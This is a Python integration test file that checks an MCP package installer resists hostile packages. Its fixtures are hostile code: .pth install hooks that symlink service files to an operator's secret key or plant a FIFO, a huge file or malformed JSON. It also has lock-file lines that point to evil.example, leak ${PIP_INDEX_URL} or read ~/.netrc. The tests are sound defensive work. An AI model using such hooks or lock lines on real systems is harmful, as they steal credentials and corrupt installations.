"""Packages whose code runs during their installation, and changes the files that the service reads
and writes."""

import asyncio
import json
import zipfile
import zlib
from dataclasses import replace
from pathlib import Path

import pytest

from application.mcp.installer import McpInstallFailure, McpInstallFailureKind
from domain.mcp.installation import Installation
from domain.mcp.server import McpServer
from infrastructure.mcp.install.package_files import MAX_BYTES
from infrastructure.settings import installer_environment
from tests.builders import START
from tests.integration.mcp.install.packages import wheel
from tests.integration.mcp.install.uv import UV
from tests.integration.mcp.install.workshop import Workshop, npm, python

pytestmark = [pytest.mark.timeout(240), pytest.mark.requirement("S1")]

NO_PACKAGES = {"name": "tiny_server", "version": "1.2.3", "commands": ["tiny-server"], "packages": {}}
LINKS = """
import json, os, sys
os.chdir(os.path.dirname(sys.prefix))
for name in ("requirements.txt", "requirements.in", "report.json", "installed.json.new"):
    if os.path.exists(name) or os.path.islink(name): os.unlink(name)
    os.symlink(SECRET, name)
"""
NOTHING_INSTALLED = f"""
import atexit, json, os
path = os.path.abspath("environment.json")
def end():
    with open(path, "w") as file: file.write({json.dumps(NO_PACKAGES)!r})
atexit.register(end)
"""
A_PIPE = """
import atexit, os, sys
path = os.path.join(os.path.dirname(sys.prefix), "environment.json")
def end():
    if os.path.exists(path): os.unlink(path)
    os.mkfifo(path)
atexit.register(end)
end()
"""
A_HUGE_FILE = """
import atexit, os, sys
path = os.path.join(os.path.dirname(sys.prefix), "environment.json")
atexit.register(lambda: os.truncate(path, 4 * 1024**3))
"""
NO_SHAPE = """
import atexit, os, sys
path = os.path.join(os.path.dirname(sys.prefix), "environment.json")
atexit.register(lambda: open(path, "w").write("[" * 100_000))
"""


def hostile(directory: Path, code: str) -> Path:
    """A package whose code runs at each start of its environment's Python."""
    directory.mkdir()
    package = wheel(directory)
    with zipfile.ZipFile(package, "a") as archive:
        archive.writestr("hook.pth", f"import sys; exec({code!r}, {{}})\n")
    return package


def a_workshop(tmp_path: Path, *, uv: bool = False) -> Workshop:
    if uv and not UV.exists():
        pytest.skip("needs `make peers`")
    index = str(tmp_path / "index")
    offline = {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": index, "UV_NO_INDEX": "1", "UV_FIND_LINKS": index}
    environment = {**installer_environment(), **offline}
    return Workshop(tmp_path / "home", environment=environment, uv=str(UV) if uv else None)


@pytest.mark.parametrize("uv", [False, True], ids=["pip", "uv"])
async def test_a_package_that_links_our_files_to_others_neither_shows_nor_changes_them(
    uv: bool, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.key"
    secret.write_text("the secret of the operator\n")
    hostile(tmp_path / "index", LINKS.replace("SECRET", repr(str(secret))))
    workshop = a_workshop(tmp_path, uv=uv)
    server = await workshop.install(python("tiny-server"))
    assert server.installation is not None
    assert server.installation.lock is not None
    assert zlib.decompress(server.installation.lock).startswith(b"tiny")
    assert secret.read_text() == "the secret of the operator\n"
    place = workshop.directories.path(server.installation.location)
    assert "sha256" not in (place / "installed.json").read_text().partition('"lock"')[2]
    texts = [file.read_bytes() for file in place.rglob("*") if file.is_file() and not file.is_symlink()]
    assert not any(b"secret of the operator" in text for text in texts)


@pytest.mark.parametrize("uv", [False, True], ids=["pip", "uv"])
async def test_a_package_that_hides_itself_is_not_installed(uv: bool, tmp_path: Path) -> None:
    secret = tmp_path / "secret.key"
    secret.write_text("the secret of the operator\n")
    hostile(tmp_path / "index", LINKS.replace("SECRET", repr(str(secret))) + NOTHING_INSTALLED)
    failure = await a_workshop(tmp_path, uv=uv).failure_of(python("tiny-server"))
    assert failure.kind is McpInstallFailureKind.FAILED


@pytest.mark.parametrize("code", [A_PIPE, A_HUGE_FILE, NO_SHAPE], ids=["a pipe", "a huge file", "no JSON"])
async def test_a_file_that_cannot_be_read_fails_the_installation_and_stops_nothing_else(
    code: str, tmp_path: Path
) -> None:
    hostile(tmp_path / "index", code)
    async with asyncio.timeout(220):
        failure = await a_workshop(tmp_path).failure_of(python("tiny-server"))
    assert failure.kind is McpInstallFailureKind.FAILED


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://evil.example/${PIP_INDEX_URL}",
        "-r /home/operator/.netrc",
        "tiny-server @ https://evil.example/x.whl --hash=sha256:" + "0" * 64,
        "tiny-server==1.2.3",
    ],
)
async def test_a_recorded_lock_with_anything_but_versions_is_refused_before_a_process_starts(
    line: str, tmp_path: Path
) -> None:
    lock = f"tiny-helper==1.0 --hash=sha256:{'0' * 64}\n{line}\n"
    await refused(a_workshop(tmp_path), python("tiny-server"), zlib.compress(lock.encode()))


@pytest.mark.parametrize(
    "resolved",
    ["git+ssh://git@evil.example/x.git#0123", "file:../../../secret.tgz", "https://me:pass@evil.example/x.tgz"],
)
async def test_a_recorded_lock_of_npm_with_another_source_is_refused_before_a_process_starts(
    resolved: str, tmp_path: Path
) -> None:
    entry = {"version": "1.2.3", "resolved": resolved, "integrity": "sha512-" + "A" * 86 + "=="}
    packages = {"": {"dependencies": {"tiny-server": "1.2.3"}}, "node_modules/tiny-server": entry}
    lock = json.dumps({"lockfileVersion": 3, "packages": packages})
    await refused(a_workshop(tmp_path), npm("tiny-server"), zlib.compress(lock.encode()))


@pytest.mark.parametrize("lock", [b"", b"no lock", zlib.compress(bytes(MAX_BYTES + 1)), zlib.compress(b"\xff")])
async def test_a_recorded_lock_that_cannot_be_unpacked_is_refused(lock: bytes, tmp_path: Path) -> None:
    await refused(a_workshop(tmp_path), python("tiny-server"), lock)


async def refused(workshop: Workshop, server: McpServer, lock: bytes) -> None:
    """Installing by the lock fails before anything else happens."""
    location = f"{server.organization_id}/{server.id}/ins_1"
    recorded = Installation(version="1.2.3", location=location, installed_at=START, lock=lock)
    server = replace(server, installation=recorded)
    with pytest.raises(McpInstallFailure) as failed:
        await workshop.installer.restore(server)
    assert failed.value.kind is McpInstallFailureKind.FAILED
    assert workshop.installer.log(server) == f"[dragoman] {failed.value.detail}\n"
